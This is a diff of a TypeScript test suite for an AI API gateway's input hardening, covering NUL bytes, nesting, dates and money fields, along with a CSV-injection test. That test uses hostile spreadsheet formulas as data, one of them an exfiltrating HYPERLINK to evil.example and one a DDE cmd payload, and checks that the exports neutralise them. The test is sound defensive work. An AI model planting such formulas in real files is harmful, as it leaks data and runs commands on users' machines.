@@ -1,4 +1,7 @@
 import { DataSource } from 'typeorm';
+import { createApiKey } from '../factories/api-key.factory.js';
+import { chatRequest, imageRequest } from '../factories/request-body.factory.js';
+import { createTeam } from '../factories/team.factory.js';
 import { createTestApp, type TestApp } from '../utils/test-app.js';
 import { waitFor } from '../utils/wait-for.js';
 
@@ -7,8 +10,8 @@ import { waitFor } from '../utils/wait-for.js';
  * OpenAI's shape naming the field, never a 500, and nothing PostgreSQL cannot store reaches it.
  */
 
-const LOCAL = { model: 'local/easel/sketch', prompt: 'input hardening', size: '256x256', response_format: 'b64_json' };
-const CHAT = { model: 'local/easel/sketch', messages: [{ role: 'user', content: 'a lighthouse' }] };
+const LOCAL = imageRequest({ prompt: 'input hardening' });
+const CHAT = chatRequest({ content: 'a lighthouse' });
 const NUL = '\u0000';
 const LONE_SURROGATE = '\ud800';
 const UUID = '5b0e4c59-6d8f-4d4b-9c35-0d4d1c7c3b0a';
@@ -31,13 +34,15 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     const text = await response.text();
     expect({ status: response.status, body: text.slice(0, 300) }).toEqual({ status: 400, body: expect.any(String) });
     const body = JSON.parse(text) as ErrorBody;
-    expect(body).toEqual({ error: { message: expect.any(String), type: 'invalid_request_error', param, code: expect.any(String) } });
+    expect(body).toEqual({
+      error: { message: expect.any(String), type: 'invalid_request_error', param, code: expect.any(String) },
+    });
     return body;
   }
 
   beforeAll(async () => {
     sut = await createTestApp({ env: { RATE_LIMIT_RPM: '1000000' } });
-    ({ key, id: keyId } = await sut.createKey());
+    ({ key, id: keyId } = await createApiKey(sut));
     dataSource = sut.app.get(DataSource);
   });
 
@@ -59,8 +64,12 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     });
 
     it.each([
-      ['messages[0].content', { ...CHAT, messages: [{ role: 'user', content: `x${NUL}` }] }, 'messages[0].content'],
-      ['a text part', { ...CHAT, messages: [{ role: 'user', content: [{ type: 'text', text: `x${LONE_SURROGATE}` }] }] }, 'messages[0].content[0].text'],
+      ['messages[0].content', chatRequest({ content: `x${NUL}` }), 'messages[0].content'],
+      [
+        'a text part',
+        chatRequest({ content: [{ type: 'text', text: `x${LONE_SURROGATE}` }] }),
+        'messages[0].content[0].text',
+      ],
       ['a name', { ...CHAT, messages: [{ role: 'user', content: 'x', name: NUL }] }, 'messages[0].name'],
       ['user', { ...CHAT, user: NUL }, 'user'],
       ['model', { ...CHAT, model: NUL }, 'model'],
@@ -69,17 +78,32 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     });
 
     it('refuses a field name with a NUL without echoing the NUL', async () => {
-      const body = await expect400(await sut.http('/v1/images/generations', { key, body: { ...LOCAL, [`col${NUL}our`]: 'red' } }), 'col\ufffdour');
+      const body = await expect400(
+        await sut.http('/v1/images/generations', { key, body: { ...LOCAL, [`col${NUL}our`]: 'red' } }),
+        'col\ufffdour',
+      );
       expect(body.error.message).not.toContain(NUL);
     });
 
     it.each([
       ['POST /admin/keys name', '/admin/keys', 'POST', { name: `k${NUL}`, team: 'default' }, 'name'],
       ['POST /admin/keys team', '/admin/keys', 'POST', { name: 'k', team: `default${NUL}` }, 'team'],
-      ['POST /admin/keys allowed_models', '/admin/keys', 'POST', { name: 'k', team: 'default', allowed_models: ['local/easel/sketch', `x${NUL}`] }, 'allowed_models[1]'],
+      [
+        'POST /admin/keys allowed_models',
+        '/admin/keys',
+        'POST',
+        { name: 'k', team: 'default', allowed_models: ['local/easel/sketch', `x${NUL}`] },
+        'allowed_models[1]',
+      ],
       ['POST /admin/teams name', '/admin/teams', 'POST', { name: `t${NUL}` }, 'name'],
       ['POST /admin/teams name (lone surrogate)', '/admin/teams', 'POST', { name: `t${LONE_SURROGATE}` }, 'name'],
-      ['POST /admin/teams budget', '/admin/teams', 'POST', { name: 't-nul', monthly_budget_usd: `1${NUL}` }, 'monthly_budget_usd'],
+      [
+        'POST /admin/teams budget',
+        '/admin/teams',
+        'POST',
+        { name: 't-nul', monthly_budget_usd: `1${NUL}` },
+        'monthly_budget_usd',
+      ],
     ])('%s', async (_what, path, method, body, param) => {
       await expect400(await admin(path, { method, body }), param);
     });
@@ -103,12 +127,22 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
       const ids = ['nul-model', 'nul-user', 'clean-1', 'clean-2'];
       const bodies = [{ ...LOCAL, model: `nope${NUL}` }, { ...LOCAL, user: NUL }, LOCAL, LOCAL];
       const statuses = await Promise.all(
-        ids.map(async (id, i) => (await sut.http('/v1/images/generations', { key, body: bodies[i], headers: { 'x-request-id': id } })).status),
+        ids.map(
+          async (id, i) =>
+            (await sut.http('/v1/images/generations', { key, body: bodies[i], headers: { 'x-request-id': id } }))
+              .status,
+        ),
       );
       expect(statuses).toEqual([400, 400, 200, 200]);
 
-      const rows = await waitFor<Array<{ request_id: string; model: string | null; user: string | null; http_status: number }>>(
-        () => dataSource.query(`SELECT request_id, model, "user", http_status FROM usage_records WHERE request_id = ANY($1)`, [ids]),
+      const rows = await waitFor<
+        Array<{ request_id: string; model: string | null; user: string | null; http_status: number }>
+      >(
+        () =>
+          dataSource.query(
+            `SELECT request_id, model, "user", http_status FROM usage_records WHERE request_id = ANY($1)`,
+            [ids],
+          ),
         (found) => found.length === ids.length,
       );
       const byId = Object.fromEntries(rows.map((row) => [row.request_id, row]));
@@ -122,25 +156,41 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
   describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
     it('writes a team name or model id that starts with =, +, -, @, tab or CR as a quoted text cell with a leading quote', async () => {
       const hostileTeam = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-      expect((await admin('/admin/teams', { body: { name: hostileTeam } })).status).toBe(201);
-      const { key: teamKey } = await sut.createKey({ team: hostileTeam });
+      await createTeam(sut, { name: hostileTeam });
+      const { key: teamKey } = await createApiKey(sut, { team: hostileTeam });
       const hostileModels = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
       for (const [i, model] of hostileModels.entries()) {
-        const response = await sut.http('/v1/images/generations', { key: teamKey, body: { ...LOCAL, model }, headers: { 'x-request-id': `csv-${i}` } });
+        const response = await sut.http('/v1/images/generations', {
+          key: teamKey,
+          body: { ...LOCAL, model },
+          headers: { 'x-request-id': `csv-${i}` },
+        });
         expect(response.status).toBe(404);
       }
       await waitFor(
-        async () => Number((await dataSource.query(`SELECT count(*) AS n FROM usage_records WHERE request_id LIKE 'csv-%'`))[0].n),
+        async () =>
+          Number(
+            (await dataSource.query(`SELECT count(*) AS n FROM usage_records WHERE request_id LIKE 'csv-%'`))[0].n,
+          ),
         (n) => n === hostileModels.length,
       );
 
       const byTeam = await (await admin('/admin/usage?group_by=team&format=csv')).text();
       expect(byTeam).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",6,6,0,0,0,0\n`);
 
-      const byModel = await (await admin(`/admin/usage?group_by=model&team=${encodeURIComponent(hostileTeam)}`, { headers: { accept: 'text/csv' } })).text();
+      const byModel = await (
+        await admin(`/admin/usage?group_by=model&team=${encodeURIComponent(hostileTeam)}`, {
+          headers: { accept: 'text/csv' },
+        })
+      ).text();
       const lines = byModel.split('\n');
       expect(lines).toEqual(
-        expect.arrayContaining([`"'=cmd|' /C calc'!A0",1,1,0,0,0,0`, `"'+1+1",1,1,0,0,0,0`, `"'-2+3",1,1,0,0,0,0`, `"'@SUM(A1)",1,1,0,0,0,0`]),
+        expect.arrayContaining([
+          `"'=cmd|' /C calc'!A0",1,1,0,0,0,0`,
+          `"'+1+1",1,1,0,0,0,0`,
+          `"'-2+3",1,1,0,0,0,0`,
+          `"'@SUM(A1)",1,1,0,0,0,0`,
+        ]),
       );
       expect(byModel).toContain(`"'\tx",1,1,0,0,0,0\n`);
       expect(byModel).toContain(`"'\rx",1,1,0,0,0,0\n`);
@@ -168,19 +218,36 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     });
 
     it.each([
-      ['/v1/images/generations', `{"model":"local/easel/sketch","prompt":"x","extra":${nested(50, '1')}}`, `extra${'[0]'.repeat(31)}`],
-      ['/admin/keys', `{"name":"k","team":"default","allowed_models":${nested(40, '"x"')}}`, `allowed_models${'[0]'.repeat(31)}`],
+      [
+        '/v1/images/generations',
+        `{"model":"local/easel/sketch","prompt":"x","extra":${nested(50, '1')}}`,
+        `extra${'[0]'.repeat(31)}`,
+      ],
+      [
+        '/admin/keys',
+        `{"name":"k","team":"default","allowed_models":${nested(40, '"x"')}}`,
+        `allowed_models${'[0]'.repeat(31)}`,
+      ],
     ])('names the field of a body nested deeper than 32 levels on %s', async (path, body, param) => {
-      const error = await expect400(await sut.http(path, { key: path.startsWith('/admin') ? sut.adminKey : key, body }), param);
+      const error = await expect400(
+        await sut.http(path, { key: path.startsWith('/admin') ? sut.adminKey : key, body }),
+        param,
+      );
       expect(error.error.message).toContain('nested too deeply');
     });
 
     it.each([
       ['/admin/keys', (depth: string) => `{"name":"k","team":"default","allowed_models":${depth}}`],
       ['/admin/teams', (depth: string) => `{"name":${depth}}`],
-      ['/v1/chat/completions', (depth: string) => `{"model":"local/easel/sketch","messages":[{"role":"user","content":${depth}}]}`],
+      [
+        '/v1/chat/completions',
+        (depth: string) => `{"model":"local/easel/sketch","messages":[{"role":"user","content":${depth}}]}`,
+      ],
     ])('answers a body nested 2,000 deep on %s with a 400', async (path, body) => {
-      const response = await sut.http(path, { key: path.startsWith('/admin') ? sut.adminKey : key, body: body(nested(2000, '"x"')) });
+      const response = await sut.http(path, {
+        key: path.startsWith('/admin') ? sut.adminKey : key,
+        body: body(nested(2000, '"x"')),
+      });
       expect(response.status).toBe(400);
     });
 
@@ -188,7 +255,7 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
       const prompt = `bell\u0007 esc\u001b[31m red\u0001\u0002\u0003\u000b\u000c\u007f\u0085 \ufffe\uffff tab\tnew\nline 😀`;
       const images = await sut.http('/v1/images/generations', { key, body: { ...LOCAL, prompt } });
       expect(images.status).toBe(200);
-      const chat = await sut.http('/v1/chat/completions', { key, body: { ...CHAT, messages: [{ role: 'user', content: prompt }] } });
+      const chat = await sut.http('/v1/chat/completions', { key, body: chatRequest({ content: prompt }) });
       expect(chat.status).toBe(200);
     });
 
@@ -200,12 +267,21 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     });
 
     it('answers a chat whose caption would cut an emoji in two, with an Idempotency-Key (stored as jsonb)', async () => {
-      const body = { ...CHAT, messages: [{ role: 'user', content: `${'x'.repeat(78)}${'🦦'.repeat(10)}` }] };
-      const first = await sut.http('/v1/chat/completions', { key, body, headers: { 'idempotency-key': 'emoji-caption' } });
+      const body = chatRequest({ content: `${'x'.repeat(78)}${'🦦'.repeat(10)}` });
+      const first = await sut.http('/v1/chat/completions', {
+        key,
+        body,
+        headers: { 'idempotency-key': 'emoji-caption' },
+      });
       expect(first.status).toBe(200);
-      const caption = ((await first.json()) as { choices: Array<{ message: { content: string } }> }).choices[0]!.message.content;
+      const caption = ((await first.json()) as { choices: Array<{ message: { content: string } }> }).choices[0]!.message
+        .content;
       expect(caption.isWellFormed()).toBe(true);
-      const again = await sut.http('/v1/chat/completions', { key, body, headers: { 'idempotency-key': 'emoji-caption' } });
+      const again = await sut.http('/v1/chat/completions', {
+        key,
+        body,
+        headers: { 'idempotency-key': 'emoji-caption' },
+      });
       expect(again.status).toBe(200);
       expect(again.headers.get('idempotent-replayed')).toBe('true');
     });
@@ -220,7 +296,9 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     });
 
     it('takes the largest budget the column holds', async () => {
-      const response = await admin('/admin/teams', { body: { name: 'max-budget', monthly_budget_usd: '99999999.999999999999' } });
+      const response = await admin('/admin/teams', {
+        body: { name: 'max-budget', monthly_budget_usd: '99999999.999999999999' },
+      });
       expect(response.status).toBe(201);
       expect(await response.json()).toMatchObject({ monthly_budget_usd: '99999999.999999999999' });
     });
@@ -228,43 +306,74 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     it('refuses a price whose cost could not be stored (more than 6 integer digits)', async () => {
       const path = `/admin/pricing/${encodeURIComponent('local/easel/sketch')}`;
       await expect400(await admin(path, { method: 'PUT', body: { per_image: '999999999' } }), 'per_image');
-      await expect400(await admin(path, { method: 'PUT', body: { per_million_tokens: { output_image: '1000000' } } }), 'per_million_tokens.output_image');
+      await expect400(
+        await admin(path, { method: 'PUT', body: { per_million_tokens: { output_image: '1000000' } } }),
+        'per_million_tokens.output_image',
+      );
     });
 
-    it.each(['-271821-04-20T00:00:00Z', '+275760-09-13T00:00:00Z', '0000-01-01T00:00:00Z', '1969-12-31T23:59:59Z', '10000-01-01T00:00:00Z'])(
-      'refuses the date %s with a 400 naming the field',
-      async (date) => {
-        await expect400(await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: date } }), 'expires_at');
-        await expect400(await admin(`/admin/keys/${keyId}`, { method: 'PATCH', body: { expires_at: date } }), 'expires_at');
-        await expect400(await admin(`/admin/usage?from=${encodeURIComponent(date)}`), 'from');
-        await expect400(await admin(`/admin/usage/records?to=${encodeURIComponent(date)}`), 'to');
-      },
-    );
+    it.each([
+      '-271821-04-20T00:00:00Z',
+      '+275760-09-13T00:00:00Z',
+      '0000-01-01T00:00:00Z',
+      '1969-12-31T23:59:59Z',
+      '10000-01-01T00:00:00Z',
+    ])('refuses the date %s with a 400 naming the field', async (date) => {
+      await expect400(
+        await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: date } }),
+        'expires_at',
+      );
+      await expect400(
+        await admin(`/admin/keys/${keyId}`, { method: 'PATCH', body: { expires_at: date } }),
+        'expires_at',
+      );
+      await expect400(await admin(`/admin/usage?from=${encodeURIComponent(date)}`), 'from');
+      await expect400(await admin(`/admin/usage/records?to=${encodeURIComponent(date)}`), 'to');
+    });
 
-    it.each([['2026-02-30T00:00:00Z'], ['2026-13-01'], ['1'], ['2026'], ['March 7, 2026'], ['2026-01-01T25:00:00Z'], ['2026-01-01T00:00:00+25:00']])(
-      'refuses %s, which is not an ISO 8601 date-time',
-      async (date) => {
-        await expect400(await admin(`/admin/usage?from=${encodeURIComponent(date)}`), 'from');
-      },
-    );
+    it.each([
+      ['2026-02-30T00:00:00Z'],
+      ['2026-13-01'],
+      ['1'],
+      ['2026'],
+      ['March 7, 2026'],
+      ['2026-01-01T25:00:00Z'],
+      ['2026-01-01T00:00:00+25:00'],
+    ])('refuses %s, which is not an ISO 8601 date-time', async (date) => {
+      await expect400(await admin(`/admin/usage?from=${encodeURIComponent(date)}`), 'from');
+    });
 
     it.each([true, 0, 1_700_000_000_000, [], {}])('refuses expires_at: %p (not a date-time string)', async (value) => {
-      await expect400(await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: value } }), 'expires_at');
+      await expect400(
+        await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: value } }),
+        'expires_at',
+      );
     });
 
     it('takes ISO 8601 dates and date-times with an offset, and a date-time without one as UTC', async () => {
-      const report = (await (await admin('/admin/usage?from=2026-01-01&to=2026-02-01T00:00:00%2B01:00')).json()) as { from: string; to: string };
+      const report = (await (await admin('/admin/usage?from=2026-01-01&to=2026-02-01T00:00:00%2B01:00')).json()) as {
+        from: string;
+        to: string;
+      };
       expect(report).toMatchObject({ from: '2026-01-01T00:00:00.000Z', to: '2026-01-31T23:00:00.000Z' });
-      const local = (await (await admin('/admin/usage?from=2026-01-01T00:00:00&to=2026-01-02T00:00:00.5')).json()) as { from: string; to: string };
+      const local = (await (await admin('/admin/usage?from=2026-01-01T00:00:00&to=2026-01-02T00:00:00.5')).json()) as {
+        from: string;
+        to: string;
+      };
       expect(local).toMatchObject({ from: '2026-01-01T00:00:00.000Z', to: '2026-01-02T00:00:00.500Z' });
-      const created = await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: '9999-12-31T23:59:59Z' } });
+      const created = await admin('/admin/keys', {
+        body: { name: 'k', team: 'default', expires_at: '9999-12-31T23:59:59Z' },
+      });
       expect(created.status).toBe(201);
       expect(await created.json()).toMatchObject({ expires_at: '9999-12-31T23:59:59.000Z' });
     });
 
     it.each([
       ['36 dashes', '-'.repeat(36)],
-      ['an encoded cursor whose id is 36 dashes', Buffer.from(`2026-01-01T00:00:00.000Z|${'-'.repeat(36)}`).toString('base64url')],
+      [
+        'an encoded cursor whose id is 36 dashes',
+        Buffer.from(`2026-01-01T00:00:00.000Z|${'-'.repeat(36)}`).toString('base64url'),
+      ],
       ['an encoded cursor from year 275760', Buffer.from(`+275760-09-13T00:00:00.000Z|${UUID}`).toString('base64url')],
       ['an encoded cursor with a NUL', Buffer.from(`2026-01-01T00:00:00.000Z|${UUID}\u0000`).toString('base64url')],
       ['a very long cursor', 'A'.repeat(5000)],
@@ -303,14 +412,21 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
     });
 
     it('answers concurrent creates of one team name with one 201 and 409s', async () => {
-      const statuses = await Promise.all(Array.from({ length: 8 }, () => admin('/admin/teams', { body: { name: 'race' } }).then((response) => response.status)));
+      const statuses = await Promise.all(
+        Array.from({ length: 8 }, () =>
+          admin('/admin/teams', { body: { name: 'race' } }).then((response) => response.status),
+        ),
+      );
       expect(statuses.sort()).toEqual([201, 409, 409, 409, 409, 409, 409, 409]);
     });
 
     it('refuses a price of null (a price cannot be cleared)', async () => {
       const path = `/admin/pricing/${encodeURIComponent('local/easel/sketch')}`;
       await expect400(await admin(path, { method: 'PUT', body: { per_image: null } }), 'per_image');
-      await expect400(await admin(path, { method: 'PUT', body: { per_million_tokens: { input_text: null } } }), 'per_million_tokens.input_text');
+      await expect400(
+        await admin(path, { method: 'PUT', body: { per_million_tokens: { input_text: null } } }),
+        'per_million_tokens.input_text',
+      );
     });
 
     it('answers a model path parameter with a NUL with a 4xx', async () => {
@@ -336,7 +452,9 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
       const response = await admin('/admin/teams', { body: { name, monthly_budget_usd: value } });
       expect(response.status).toBe(201);
       expect(await response.json()).toMatchObject({ monthly_budget_usd: stored });
-      const [row] = (await dataSource.query('SELECT monthly_budget_usd::text AS v FROM teams WHERE name = $1', [name])) as Array<{ v: string }>;
+      const [row] = (await dataSource.query('SELECT monthly_budget_usd::text AS v FROM teams WHERE name = $1', [
+        name,
+      ])) as Array<{ v: string }>;
       expect(row!.v.replace(/0+$/, '').replace(/\.$/, '')).toBe(stored);
     });
 
@@ -357,7 +475,10 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
       [[5], 'decimal'],
       [{ amount: 5 }, 'decimal'],
     ])('refuses monthly_budget_usd %p', async (value, says) => {
-      const error = await expect400(await admin('/admin/teams', { body: { name: 'money-bad', monthly_budget_usd: value } }), 'monthly_budget_usd');
+      const error = await expect400(
+        await admin('/admin/teams', { body: { name: 'money-bad', monthly_budget_usd: value } }),
+        'monthly_budget_usd',
+      );
       expect(error.error.message).toMatch(new RegExp(says));
     });
 
@@ -374,19 +495,40 @@ describe('Input hardening: 400 naming the field, never a 500, nothing unstorable
 
     it('takes numbers for prices, exactly, and refuses more decimals than the price column holds', async () => {
       const path = `/admin/pricing/${encodeURIComponent('local/easel/sketch')}`;
-      const set = await admin(path, { method: 'PUT', body: { per_image: 0.04, per_million_tokens: { input_text: 5, output_image: 39.999999 } } });
+      const set = await admin(path, {
+        method: 'PUT',
+        body: { per_image: 0.04, per_million_tokens: { input_text: 5, output_image: 39.999999 } },
+      });
       expect(set.status).toBe(200);
-      expect(await set.json()).toMatchObject({ per_image: '0.04', per_million_tokens: { input_text: '5', output_image: '39.999999' } });
+      expect(await set.json()).toMatchObject({
+        per_image: '0.04',
+        per_million_tokens: { input_text: '5', output_image: '39.999999' },
+      });
       await expect400(await admin(path, { method: 'PUT', body: { per_image: 0.0000001 } }), 'per_image');
-      await expect400(await admin(path, { method: 'PUT', body: { per_million_tokens: { input_text: 1.1234567 } } }), 'per_million_tokens.input_text');
+      await expect400(
+        await admin(path, { method: 'PUT', body: { per_million_tokens: { input_text: 1.1234567 } } }),
+        'per_million_tokens.input_text',
+      );
       // Back to free, so the other tests' requests cost nothing.
-      expect((await admin(path, { method: 'PUT', body: { per_image: 0, per_million_tokens: { input_text: 0, output_image: 0 } } })).status).toBe(200);
+      expect(
+        (
+          await admin(path, {
+            method: 'PUT',
+            body: { per_image: 0, per_million_tokens: { input_text: 0, output_image: 0 } },
+          })
+        ).status,
+      ).toBe(200);
     });
 
     it('documents money fields as a decimal string or a JSON number', async () => {
-      const document = (await (await sut.http('/docs-json')).json()) as { components: { schemas: Record<string, { properties: Record<string, Record<string, unknown>> }> } };
+      const document = (await (await sut.http('/docs-json')).json()) as {
+        components: { schemas: Record<string, { properties: Record<string, Record<string, unknown>> }> };
+      };
       const budget = document.components.schemas.CreateTeamDto!.properties.monthly_budget_usd!;
-      expect(budget.oneOf).toEqual([expect.objectContaining({ type: 'string' }), expect.objectContaining({ type: 'number' })]);
+      expect(budget.oneOf).toEqual([
+        expect.objectContaining({ type: 'string' }),
+        expect.objectContaining({ type: 'number' }),
+      ]);
       expect(budget.type).toBeUndefined();
     });
   });
